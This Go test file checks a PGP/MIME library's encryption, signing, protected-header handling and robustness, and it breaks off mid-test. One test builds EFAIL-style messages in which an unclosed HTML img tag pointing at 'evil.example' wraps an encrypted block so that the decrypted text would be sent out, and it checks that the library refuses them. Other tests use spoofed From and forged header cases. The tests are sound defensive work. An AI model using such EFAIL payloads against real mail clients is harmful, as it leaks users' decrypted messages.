package pgpmime

import (
	"bytes"
	"crypto"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/clearsign"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

func TestEncryptSignRoundTrip(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	msg := crlf(sampleMsg)
	enc, err := EncryptSign(msg, list(publicOnly(t, bob), publicOnly(t, alice)), alice, nil)
	if err != nil {
		t.Fatal(err)
	}

	// The outer header keeps only routing fields and an obscured Subject.
	outer := headerOf(t, enc)
	if got := getValue(outer, "Subject"); got != "..." {
		t.Errorf("outer Subject = %q", got)
	}
	for _, name := range []string{"From", "To", "Cc", "Date", "Message-ID", "In-Reply-To", "References"} {
		if _, ok := getField(outer, name); !ok {
			t.Errorf("outer header lacks %s", name)
		}
	}
	if _, ok := getField(outer, "User-Agent"); ok {
		t.Error("User-Agent leaked into the outer header")
	}
	if bytes.Contains(enc, []byte("secret-bcc")) || bytes.Contains(enc, []byte("Quarterly")) {
		t.Error("Bcc or Subject visible in the encrypted message")
	}
	mt, params := mediaType(outer)
	if mt != "multipart/encrypted" || params["protocol"] != "application/pgp-encrypted" {
		t.Errorf("outer Content-Type %s %v", mt, params)
	}
	if !IsEncrypted(enc) {
		t.Error("IsEncrypted(EncryptSign(...)) = false")
	}

	// Both the recipient and the sender (Sent copy) can read it.
	for _, reader := range []*openpgp.Entity{bob, alice} {
		res, err := Process(enc, list(reader), list(publicOnly(t, alice)), time.Now())
		if err != nil {
			t.Fatal(err)
		}
		if !res.Encrypted || !res.Decrypted || res.DecryptErr != nil {
			t.Fatalf("Encrypted=%v Decrypted=%v err=%v", res.Encrypted, res.Decrypted, res.DecryptErr)
		}
		if res.Signature != SigValid {
			t.Errorf("Signature = %s (%v)", res.Signature, res.SignatureErr)
		}
		if res.SignerFingerprint != fingerprint(alice) {
			t.Errorf("SignerFingerprint = %s, want %s", res.SignerFingerprint, fingerprint(alice))
		}
		if res.SignerAddress != "alice@example.org" {
			t.Errorf("SignerAddress = %q", res.SignerAddress)
		}
		h := headerOf(t, res.Message)
		if got := getValue(h, "Subject"); got != "Quarterly numbers" {
			t.Errorf("Subject = %q\n%s", got, res.Message)
		}
		if got := getValue(h, "User-Agent"); got != "pgpmime-test" {
			t.Errorf("User-Agent = %q", got)
		}
		if got := getValue(h, "From"); got != "Alice <alice@example.org>" {
			t.Errorf("From = %q", got)
		}
		for _, f := range h {
			if f.key() == "hp-outer" || f.key() == "bcc" {
				t.Errorf("unexpected field %q", f.raw)
			}
		}
		if ct := getValue(h, "Content-Type"); ct != "text/plain; charset=us-ascii" {
			t.Errorf("Content-Type = %q", ct)
		}
		// "-- " has trailing whitespace, so the text was re-encoded as
		// quoted-printable before signing (RFC 3156 §3, §6.2).
		text, _ := decodeCTE(getValue(h, "Content-Transfer-Encoding"), bodyOf(t, res.Message))
		if want := bodyOf(t, msg); !bytes.Equal(text, want) {
			t.Errorf("text changed:\n%q\n%q", text, want)
		}
	}

	// A 7bit-clean body comes back byte for byte.
	clean := crlf(strings.Replace(sampleMsg, "-- \n", "--\n", 1))
	enc, err = EncryptSign(clean, list(publicOnly(t, bob)), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, _ := Process(enc, list(bob), list(publicOnly(t, alice)), time.Now())
	if got, want := bodyOf(t, res.Message), bodyOf(t, clean); !bytes.Equal(got, want) {
		t.Errorf("body changed:\n%q\n%q", got, want)
	}
	if _, ok := getField(headerOf(t, res.Message), "Content-Transfer-Encoding"); ok {
		t.Error("Content-Transfer-Encoding added to a 7bit body")
	}
}

func TestEncryptSignEightBitAndMultipart(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	msg := crlf(`From: alice@example.org
To: bob@example.net
Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Grüße aus Köln   
From here on
--b1
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

AAECAwQ=
--b1--
`)
	enc, err := EncryptSign(msg, list(publicOnly(t, bob)), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, _ := Process(enc, list(bob), list(publicOnly(t, alice)), time.Time{})
	if !res.Decrypted || res.Signature != SigValid {
		t.Fatalf("Decrypted=%v Signature=%s %v %v", res.Decrypted, res.Signature, res.DecryptErr, res.SignatureErr)
	}
	if got := getValue(headerOf(t, res.Message), "Subject"); got != "=?utf-8?q?Gr=C3=BC=C3=9Fe?=" {
		t.Errorf("Subject = %q", got)
	}
	// The text part was made 7bit (quoted-printable) before signing, as
	// RFC 3156 §6.2 requires; its decoded text is unchanged.
	var text []byte
	visit(res.Message, func(e *entity) {
		if mt, _ := mediaType(e.header); mt == "text/plain" {
			if cte := getValue(e.header, "Content-Transfer-Encoding"); cte != "quoted-printable" {
				t.Errorf("text part CTE = %q", cte)
			}
			text, _ = decodeCTE("quoted-printable", e.body)
		}
	})
	if want := "Grüße aus Köln   \r\nFrom here on"; string(text) != want {
		t.Errorf("decoded text %q, want %q", text, want)
	}
	if !is7bit(bodyOf(t, res.Message)) {
		t.Error("decrypted body is not 7bit")
	}
}

func TestSignRoundTrip(t *testing.T) {
	alice := testKey(t, "alice@example.org")
	signed, err := Sign(crlf(sampleMsg), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	h := headerOf(t, signed)
	mt, params := mediaType(h)
	if mt != "multipart/signed" || params["micalg"] != "pgp-sha256" || params["protocol"] != "application/pgp-signature" {
		t.Fatalf("Content-Type %s %v", mt, params)
	}
	if getValue(h, "Subject") != "Quarterly numbers" {
		t.Error("Subject should stay outside")
	}
	if IsEncrypted(signed) {
		t.Error("signed message reported as encrypted")
	}
	res, err := Process(signed, nil, list(publicOnly(t, alice)), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if res.Signature != SigValid || res.Encrypted || res.SignerFingerprint != fingerprint(alice) {
		t.Fatalf("Signature=%s (%v) Encrypted=%v fp=%s", res.Signature, res.SignatureErr, res.Encrypted, res.SignerFingerprint)
	}
	if !bytes.Equal(res.Message, signed) {
		t.Error("a signed message must be kept as it is")
	}

	// The same message stored with LF line breaks still verifies (RFC 3156 §5: convert to CRLF first).
	lf := bytes.ReplaceAll(signed, []byte("\r\n"), []byte("\n"))
	if res, _ := Process(lf, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigValid {
		t.Errorf("LF copy: %s %v", res.Signature, res.SignatureErr)
	}

	// Tampered body.
	bad := bytes.Replace(signed, []byte("numbers are good"), []byte("numbers are bad!"), 1)
	if res, _ := Process(bad, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigInvalid {
		t.Errorf("tampered: Signature = %s", res.Signature)
	}
	// Tampered signed MIME header.
	bad = bytes.Replace(signed, []byte("charset=us-ascii"), []byte("charset=latin-1"), 1)
	if res, _ := Process(bad, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigInvalid {
		t.Errorf("tampered header: Signature = %s", res.Signature)
	}
	// Unknown signer.
	if res, _ := Process(signed, nil, nil, time.Now()); res.Signature != SigUnknownKey {
		t.Errorf("no sender key: Signature = %s", res.Signature)
	}
	// Key expired at the time of processing.
	if res, _ := Process(signed, nil, list(publicOnly(t, alice)), time.Now().Add(3*365*24*time.Hour)); res.Signature != SigInvalid {
		t.Errorf("expired key: Signature = %s", res.Signature)
	}
}

func TestSignCanonicalizes(t *testing.T) {
	alice := testKey(t, "alice@example.org")
	msg := []byte("From: alice@example.org\nSubject: x\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nFrom the start   \ncafé\n")
	signed, err := Sign(msg, alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !is7bit(signed) {
		t.Error("signed message is not 7bit")
	}
	for _, l := range bytes.Split(signed, []byte("\r\n")) {
		if bytes.HasPrefix(l, []byte("From ")) || bytes.HasSuffix(l, []byte(" ")) {
			t.Errorf("unsafe line %q", l)
		}
	}
	if bytes.Contains(bytes.ReplaceAll(signed, []byte("\r\n"), nil), []byte("\n")) {
		t.Error("bare LF in output")
	}
	res, _ := Process(signed, nil, list(publicOnly(t, alice)), time.Now())
	if res.Signature != SigValid {
		t.Fatalf("Signature = %s (%v)", res.Signature, res.SignatureErr)
	}
	e, _ := parseEntity(signed)
	_, params := mediaType(e.header)
	mp, _ := splitMultipart(e.body, params["boundary"])
	first, _ := parseEntity(e.body[mp.parts[0].start:mp.parts[0].end])
	text, _ := decodeCTE(getValue(first.header, "Content-Transfer-Encoding"), first.body)
	if want := "From the start   \r\ncafé\r\n"; string(text) != want {
		t.Errorf("signed text %q, want %q", text, want)
	}

	// 8-bit text without a charset gets charset=utf-8 when re-encoded.
	signed, err = Sign([]byte("From: alice@example.org\n\nSchöne Grüße\n"), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(signed, []byte("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n")) {
		t.Errorf("no charset:\n%s", signed)
	}
	if res, _ := Process(signed, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigValid {
		t.Errorf("Signature = %s", res.Signature)
	}
}

func TestWrongRecipient(t *testing.T) {
	alice, bob, carol := testKey(t, "alice@example.org"), testKey(t, "bob@example.net"), testKey(t, "carol@example.com")
	enc, err := EncryptSign(crlf(sampleMsg), list(publicOnly(t, bob)), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, err := Process(enc, list(carol), list(publicOnly(t, alice)), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if !res.Encrypted || res.Decrypted || !errors.Is(res.DecryptErr, ErrNoKey) {
		t.Fatalf("Encrypted=%v Decrypted=%v err=%v", res.Encrypted, res.Decrypted, res.DecryptErr)
	}
	if !bytes.Equal(res.Message, enc) || res.Signature != SigNone {
		t.Error("undecryptable message must be kept as it came")
	}
	// No own keys at all.
	if res, _ := Process(enc, nil, nil, time.Now()); res.Decrypted || res.DecryptErr == nil {
		t.Error("decrypted without keys?")
	}
}

func TestHiddenRecipients(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	normal, err := EncryptSign(crlf(sampleMsg), list(publicOnly(t, bob), publicOnly(t, alice)), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range pkeskIDs(t, armoredPart(t, normal)) {
		if id == 0 {
			t.Error("normal message has a wildcard key ID")
		}
	}
	hidden, err := EncryptSign(crlf(sampleMsg), list(publicOnly(t, bob), publicOnly(t, alice)), alice, &Options{HiddenRecipients: true})
	if err != nil {
		t.Fatal(err)
	}
	ids := pkeskIDs(t, armoredPart(t, hidden))
	if len(ids) != 2 {
		t.Fatalf("%d PKESK packets", len(ids))
	}
	for _, id := range ids {
		if id != 0 {
			t.Errorf("key ID %X, want 0", id)
		}
	}
	for _, reader := range []*openpgp.Entity{bob, alice} {
		res, _ := Process(hidden, list(testKey(t, "carol@example.com"), reader), list(publicOnly(t, alice)), time.Now())
		if !res.Decrypted || res.Signature != SigValid {
			t.Errorf("Decrypted=%v (%v) Signature=%s (%v)", res.Decrypted, res.DecryptErr, res.Signature, res.SignatureErr)
		}
	}
	if res, _ := Process(hidden, list(testKey(t, "carol@example.com")), nil, time.Now()); res.Decrypted || !errors.Is(res.DecryptErr, ErrNoKey) {
		t.Errorf("wrong key: Decrypted=%v err=%v", res.Decrypted, res.DecryptErr)
	}
}

func TestNestedLayers(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	to := list(publicOnly(t, bob))
	// RFC 3156 §6.1 encapsulation: multipart/signed inside multipart/encrypted.
	signed, err := Sign(crlf(sampleMsg), alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	enc, err := EncryptSign(signed, to, alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, _ := Process(enc, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Decrypted || res.Signature != SigValid {
		t.Fatalf("Decrypted=%v (%v) Signature=%s (%v)", res.Decrypted, res.DecryptErr, res.Signature, res.SignatureErr)
	}
	if mt, _ := mediaType(headerOf(t, res.Message)); mt != "multipart/signed" {
		t.Errorf("inner structure lost: %s", mt)
	}

	// Three encryption layers are processed, a fourth is refused.
	m := crlf(sampleMsg)
	for i := 0; i < 3; i++ {
		if m, err = EncryptSign(m, to, alice, nil); err != nil {
			t.Fatal(err)
		}
	}
	res, _ = Process(m, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Decrypted || getValue(headerOf(t, res.Message), "Subject") != "Quarterly numbers" {
		t.Fatalf("3 layers: Decrypted=%v %v", res.Decrypted, res.DecryptErr)
	}
	m4, err := EncryptSign(m, to, alice, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, _ = Process(m4, list(bob), list(publicOnly(t, alice)), time.Now())
	if res.Decrypted || !errors.Is(res.DecryptErr, ErrTooDeep) || !bytes.Equal(res.Message, m4) {
		t.Fatalf("4 layers: Decrypted=%v err=%v", res.Decrypted, res.DecryptErr)
	}
}

func TestPlaintextLimit(t *testing.T) {
	old := maxPlaintext
	maxPlaintext = 64 << 10
	defer func() { maxPlaintext = old }()
	// A key that asks for compression (keys made by pkg/pgpkey only
	// list "uncompressed"), so the message below is zlib-compressed.
	cfg := &packet.Config{DefaultCompressionAlgo: packet.CompressionZLIB, Algorithm: packet.PubKeyAlgoEdDSA, Curve: packet.Curve25519}
	bob, err := openpgp.NewEntity("", "", "bob@example.net", cfg)
	if err != nil {
		t.Fatal(err)
	}
	alice := testKey(t, "alice@example.org")
	body := strings.Repeat("all work and no play makes jack a dull boy\n", 4000) // ~170 KiB, compresses well
	plain := crlf("Content-Type: text/plain\n\n" + body)
	armored := encryptArmored(t, plain, list(publicOnly(t, bob)), alice, cfg)
	enc := wrapEncrypted("From: alice@example.org\nSubject: ...\n", armored)
	if len(enc) > int(maxPlaintext) {
		t.Fatalf("test message not compressed (%d bytes)", len(enc))
	}
	res, _ := Process(enc, list(bob), nil, time.Now())
	if res.Decrypted || !errors.Is(res.DecryptErr, ErrTooLarge) {
		t.Fatalf("Decrypted=%v err=%v", res.Decrypted, res.DecryptErr)
	}
}

func TestProtectedHeadersLegacyPart(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	// Enigmail-style protected headers: protected-headers="v1" on a
	// multipart/mixed payload whose first part is text/rfc822-headers.
	plain := crlf(`Content-Type: multipart/mixed; boundary="inner"; protected-headers="v1"

--inner
Content-Type: text/rfc822-headers; protected-headers="v1"
Content-Disposition: inline

Subject: The real subject
From: Alice <alice@example.org>

--inner
Content-Type: text/plain; charset=utf-8

Body text.
--inner--
`)
	enc := wrapEncrypted("From: Alice <alice@example.org>\nTo: bob@example.net\nSubject: ...\n", encryptArmored(t, plain, list(publicOnly(t, bob)), alice, nil))
	res, _ := Process(enc, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Decrypted || res.Signature != SigValid {
		t.Fatalf("Decrypted=%v %v Signature=%s", res.Decrypted, res.DecryptErr, res.Signature)
	}
	if got := getValue(headerOf(t, res.Message), "Subject"); got != "The real subject" {
		t.Errorf("Subject = %q\n%s", got, res.Message)
	}
	if bytes.Contains(res.Message, []byte("rfc822-headers")) {
		t.Errorf("legacy display part not removed:\n%s", res.Message)
	}
	if !bytes.Contains(res.Message, []byte("Body text.")) {
		t.Error("body lost")
	}
}

func TestProtectedHeadersLegacyDisplayElement(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	// RFC 9788 §5.2.2: a Legacy Display Element in a text/plain part.
	plain := crlf(`Content-Type: text/plain; charset=UTF-8; hp="cipher"; hp-legacy-display="1"
Subject: Thursday's meeting
From: alice@example.org
HP-Outer: Subject: [...]
HP-Outer: From: alice@example.org

Subject: Thursday's meeting

I think we should skip the meeting.
`)
	enc := wrapEncrypted("From: alice@example.org\nSubject: [...]\n", encryptArmored(t, plain, list(publicOnly(t, bob)), alice, nil))
	res, _ := Process(enc, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Decrypted {
		t.Fatal(res.DecryptErr)
	}
	h := headerOf(t, res.Message)
	if getValue(h, "Subject") != "Thursday's meeting" {
		t.Errorf("Subject = %q", getValue(h, "Subject"))
	}
	if got := string(bodyOf(t, res.Message)); got != "I think we should skip the meeting.\r\n" {
		t.Errorf("body %q", got)
	}
	mt, params := mediaType(h)
	if mt != "text/plain" || params["hp"] != "" || params["hp-legacy-display"] != "" || params["charset"] != "UTF-8" {
		t.Errorf("Content-Type %s %v", mt, params)
	}
	if _, ok := getField(h, "HP-Outer"); ok {
		t.Error("HP-Outer kept")
	}
}

func TestProtectedFromMismatch(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	mallory := testKey(t, "mallory@example.com")
	plain := crlf(`Content-Type: text/plain; hp="cipher"
From: Mallory <mallory@example.com>
Subject: pay this invoice

text
`)
	outer := "From: Alice <alice@example.org>\nSubject: ...\n"
	// Unsigned: the protected From cannot be trusted (RFC 9788 §4.4.3).
	enc := wrapEncrypted(outer, encryptArmored(t, plain, list(publicOnly(t, bob)), nil, nil))
	res, _ := Process(enc, list(bob), nil, time.Now())
	h := headerOf(t, res.Message)
	if got := getValue(h, "From"); got != "Alice <alice@example.org>" {
		t.Errorf("unsigned mismatch: From = %q", got)
	}
	if getValue(h, "Subject") != "pay this invoice" {
		t.Error("Subject not applied")
	}
	// Signed by a key bound to the protected From: it is used.
	enc = wrapEncrypted(outer, encryptArmored(t, plain, list(publicOnly(t, bob)), mallory, nil))
	res, _ = Process(enc, list(bob), list(publicOnly(t, mallory)), time.Now())
	if got := getValue(headerOf(t, res.Message), "From"); got != "Mallory <mallory@example.com>" || res.Signature != SigValid {
		t.Errorf("bound signature: From = %q, %s", got, res.Signature)
	}
	// Signed by alice (not bound to mallory@): outer From stays.
	enc = wrapEncrypted(outer, encryptArmored(t, plain, list(publicOnly(t, bob)), alice, nil))
	res, _ = Process(enc, list(bob), list(publicOnly(t, alice)), time.Now())
	if got := getValue(headerOf(t, res.Message), "From"); got != "Alice <alice@example.org>" {
		t.Errorf("unbound signature: From = %q", got)
	}
}

func TestInnerFieldsNotForged(t *testing.T) {
	bob := testKey(t, "bob@example.net")
	plain := crlf(`Content-Type: text/plain; protected-headers="v1"
Subject: hi
Received: from forged
Authentication-Results: mx; dkim=pass
X-Leap-Signature: valid

text
`)
	enc := wrapEncrypted("From: alice@example.org\nReceived: from real\nSubject: ...\n", encryptArmored(t, plain, list(publicOnly(t, bob)), nil, nil))
	res, _ := Process(enc, list(bob), nil, time.Now())
	if !res.Decrypted {
		t.Fatal(res.DecryptErr)
	}
	h := headerOf(t, res.Message)
	for _, f := range h {
		if strings.Contains(string(f.raw), "forged") || f.key() == "authentication-results" || f.key() == "x-leap-signature" {
			t.Errorf("inner field hoisted: %q", f.raw)
		}
	}
	if getValue(h, "Received") != "from real" || getValue(h, "Subject") != "hi" {
		t.Errorf("header:\n%s", res.Message)
	}
}

func TestBarePlaintext(t *testing.T) {
	bob := testKey(t, "bob@example.net")
	// Some agents encrypt only the body text, without MIME headers.
	enc := wrapEncrypted("From: alice@example.org\nSubject: s\n", encryptArmored(t, []byte("Just text, ünïcode.\nSecond: line\n"), list(publicOnly(t, bob)), nil, nil))
	res, _ := Process(enc, list(bob), nil, time.Now())
	if !res.Decrypted {
		t.Fatal(res.DecryptErr)
	}
	h := headerOf(t, res.Message)
	if mt, params := mediaType(h); mt != "text/plain" || params["charset"] != "utf-8" {
		t.Errorf("Content-Type %s %v", mt, params)
	}
	text, _ := decodeCTE(getValue(h, "Content-Transfer-Encoding"), bodyOf(t, res.Message))
	if string(text) != "Just text, ünïcode.\r\nSecond: line\r\n" {
		t.Errorf("text %q", text)
	}
}

func TestInlineEncrypted(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	armored := encryptArmored(t, []byte("Secret inline text: café\n"), list(publicOnly(t, bob)), alice, nil)
	msg := []byte("From: alice@example.org\nTo: bob@example.net\nSubject: inline\nContent-Type: text/plain; charset=us-ascii\n\n" + string(armored))
	if !IsEncrypted(msg) {
		t.Error("IsEncrypted(inline) = false")
	}
	res, _ := Process(msg, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Encrypted || !res.Decrypted || res.Signature != SigValid {
		t.Fatalf("Encrypted=%v Decrypted=%v (%v) Signature=%s (%v)", res.Encrypted, res.Decrypted, res.DecryptErr, res.Signature, res.SignatureErr)
	}
	h := headerOf(t, res.Message)
	if getValue(h, "Subject") != "inline" || getValue(h, "To") != "bob@example.net" {
		t.Error("header changed")
	}
	if _, params := mediaType(h); params["charset"] != "utf-8" {
		t.Errorf("charset %q", params["charset"])
	}
	text, _ := decodeCTE(getValue(h, "Content-Transfer-Encoding"), bodyOf(t, res.Message))
	if string(text) != "Secret inline text: café\n" {
		t.Errorf("text %q", text)
	}

	// Inside multipart/mixed, with an attachment and surrounding text.
	mixed := crlf("From: alice@example.org\nSubject: m\nContent-Type: multipart/mixed; boundary=xx\n\n--xx\nContent-Type: text/plain\n\nbefore\n" +
		strings.ReplaceAll(string(armored), "\r\n", "\n") + "after\n--xx\nContent-Type: application/pdf\nContent-Transfer-Encoding: base64\n\nJVBERi0=\n--xx--\n")
	res, _ = Process(mixed, list(bob), list(publicOnly(t, alice)), time.Now())
	if !res.Decrypted {
		t.Fatal(res.DecryptErr)
	}
	if !bytes.Contains(res.Message, []byte("before\r\nSecret inline text")) || !bytes.Contains(res.Message, []byte("after\r\n--xx\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--xx--")) {
		t.Errorf("unexpected result:\n%s", res.Message)
	}
	if res.Signature != SigValid || !errors.Is(res.SignatureErr, ErrPartialSignature) ||
		!slices.Equal(res.SignatureOutside, []string{"text around the encrypted block", "an attachment"}) {
		t.Errorf("partly signed text: %s %v %q", res.Signature, res.SignatureErr, res.SignatureOutside)
	}
	if !slices.Equal(res.EncryptionOutside, []string{"text around the encrypted block", "an attachment"}) {
		t.Errorf("partly encrypted: %q", res.EncryptionOutside)
	}

	// Undecryptable inline block: kept as it came.
	res, _ = Process(msg, list(testKey(t, "carol@example.com")), nil, time.Now())
	if !res.Encrypted || res.Decrypted || res.DecryptErr == nil || !bytes.Equal(res.Message, msg) {
		t.Errorf("Encrypted=%v Decrypted=%v err=%v", res.Encrypted, res.Decrypted, res.DecryptErr)
	}
}

func TestInlineEFAILStructure(t *testing.T) {
	alice, bob := testKey(t, "alice@example.org"), testKey(t, "bob@example.net")
	block := strings.ReplaceAll(string(encryptArmored(t, []byte("the secret\n"), list(publicOnly(t, bob)), alice, nil)), "\r\n", "\n")
	// Direct exfiltration: HTML parts around the captured block.
	attack := crlf("From: alice@example.org\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n--x\nContent-Type: text/plain\n\n" +
		block + "\n--x\nContent-Type: text/html\n\n\">\n--x--\n")
	res, _ := Process(attack, list(bob), nil, time.Now())
	if res.Decrypted || !errors.Is(res.DecryptErr, ErrUnsafeStructure) || !bytes.Equal(res.Message, attack) {
		t.Errorf("attack decrypted: Decrypted=%v err=%v", res.Decrypted, res.DecryptErr)
	}
	// The same with the HTML hidden in alternatives.
	attack2 := crlf("Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: multipart/alternative; boundary=y\n\n--y\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n--y--\n--x\nContent-Type: text/plain\n\n" +
		block + "\n--x\nContent-Type: multipart/alternative; boundary=z\n\n--z\nContent-Type: text/html\n\n\">\n--z--\n--x--\n")
	if res, _ := Process(attack2, list(bob), nil, time.Now()); res.Decrypted || !errors.Is(res.DecryptErr, ErrUnsafeStructure) {
		t.Errorf("attack2 decrypted: %v", res.DecryptErr)
	}
	// A plain/html alternative as the main body, with an attachment, is fine.
	legit := crlf("Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: multipart/alternative; boundary=y\n\n--y\nContent-Type: text/plain\n\n" +
		block + "\n--y\nContent-Type: text/html\n\n<pre>encrypted</pre>\n--y--\n--x\nContent-Type: text/html\nContent-Disposition: attachment; filename=a.html\n\n<b>x</b>\n--x--\n")
	if res, _ := Process(legit, list(bob), nil, time.Now()); !res.Decrypted || !bytes.Contains(res.Message, []byte("the secret")) {
		t.Errorf("legit structure not decrypted: %v", res.DecryptErr)
	}
}

func clearsignText(t *testing.T, signer *openpgp.Entity, text string) string {
	return clearsignTextCfg(t, signer, text, &packet.Config{DefaultHash: crypto.SHA256})
}

func clearsignTextCfg(t *testing.T, signer *openpgp.Entity, text string, cfg *packet.Config) string {
	t.Helper()
	var b bytes.Buffer
	w, err := clearsign.Encode(&b, signer.PrivateKey, cfg)
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(text))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String() + "\n"
}

func TestInlineClearsigned(t *testing.T) {
	alice := testKey(t, "alice@example.org")
	signed := clearsignText(t, alice, "Hello,\n- dashes\nbye\n")
	msg := crlf("From: alice@example.org\nSubject: cs\n\n" + signed)
	res, _ := Process(msg, nil, list(publicOnly(t, alice)), time.Now())
	if res.Signature != SigValid || res.Encrypted || res.SignerAddress != "alice@example.org" {
		t.Fatalf("Signature=%s (%v) Encrypted=%v", res.Signature, res.SignatureErr, res.Encrypted)
	}
	if !bytes.Equal(res.Message, msg) {
		t.Error("cleartext-signed message must be kept as it is")
	}
	bad := bytes.Replace(msg, []byte("bye"), []byte("bYe"), 1)
	if res, _ := Process(bad, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigInvalid {
		t.Errorf("tampered: %s", res.Signature)
	}
	if res, _ := Process(msg, nil, nil, time.Now()); res.Signature != SigUnknownKey {
		t.Errorf("unknown key: %s", res.Signature)
	}
	footer := append(append([]byte{}, msg...), crlf("\n_______________\nmailing list footer\n")...)
	if res, _ := Process(footer, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigValid || !errors.Is(res.SignatureErr, ErrPartialSignature) ||
		!slices.Equal(res.SignatureOutside, []string{"text around the signed block"}) {
		t.Errorf("footer: %s %v %q", res.Signature, res.SignatureErr, res.SignatureOutside)
	}
	// Quoted-printable encoded cleartext signature still verifies.
	qp := crlf("From: alice@example.org\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n" + string(encodeQP([]byte(signed), "\n")))
	if res, _ := Process(qp, nil, list(publicOnly(t, alice)), time.Now()); res.Signature != SigValid {
		t.Errorf("quoted-printable: %s %v", res.Signature, res.SignatureErr)
	}
}

func TestBadInputKeepsMessage(t *testing.T) {
	bob := testKey(t, "bob@example.net")
	garbage := make([]byte, 4096)
	for i := range garbage {
		garbage[i] = byte(i*7 + i/13)
	}
	huge := append([]byte("Subject: "+strings.Repeat("x", 2<<20)+"\r\nContent-Type: text/plain\r\n\r\n"), []byte("-----BEGIN PGP MESSAGE-----\r\n\r\nzzzz\r\n-----END PGP MESSAGE-----\r\n")...)
	cases := map[string]struct {
		msg       []byte
		encrypted bool
	}{
		"empty":              {nil, false},
		"garbage":            {garbage, false},
		"no colon":           {[]byte("this is not a header\r\n\r\nbody"), false},
		"continuation":       {[]byte(" leading space\r\nSubject: x\r\n\r\n"), false},
		"only header":        {[]byte("Subject: x"), false},
		"bad content-type":   {crlf("Subject: x\nContent-Type: multipart/mixed; boundary=\n\n--\n"), false},
		"unclosed multipart": {crlf("Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nx\n"), false},
		"empty encrypted":    {crlf("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\n\n"), true},
		"one part encrypted": {crlf("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b--\n"), true},
		"broken pgp block":   {wrapEncrypted("Subject: x\n", []byte("-----BEGIN PGP MESSAGE-----\n\nhQEMA5x/AAAAAAAAAQf/broken\n=abcd\n-----END PGP MESSAGE-----\n")), true},
		"binary garbage pgp": {wrapEncrypted("Subject: x\n", garbage), true},
		"inline no end":      {crlf("Subject: x\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA5x\n"), true},
		"inline broken":      {crlf("Subject: x\n\n-----BEGIN PGP MESSAGE-----\n\n!!!!\n-----END PGP MESSAGE-----\n"), true},
		"huge header line":   {huge, true},
		"broken signature":   {crlf("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\n\n--b\n\nx\n--b\nContent-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n--b--\n"), false},
		"signed one part":    {crlf("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\n\n--b\n\nx\n--b--\n"), false},
		"clearsign broken":   {crlf("Subject: x\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\ntext\n-----BEGIN PGP SIGNATURE-----\n\n!!\n-----END PGP SIGNATURE-----\n"), false},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			res, err := Process(c.msg, list(bob), nil, time.Now())
			if err != nil {
				t.Fatalf("error: %v", err)
			}
			if res == nil || !bytes.Equal(res.Message, c.msg) {
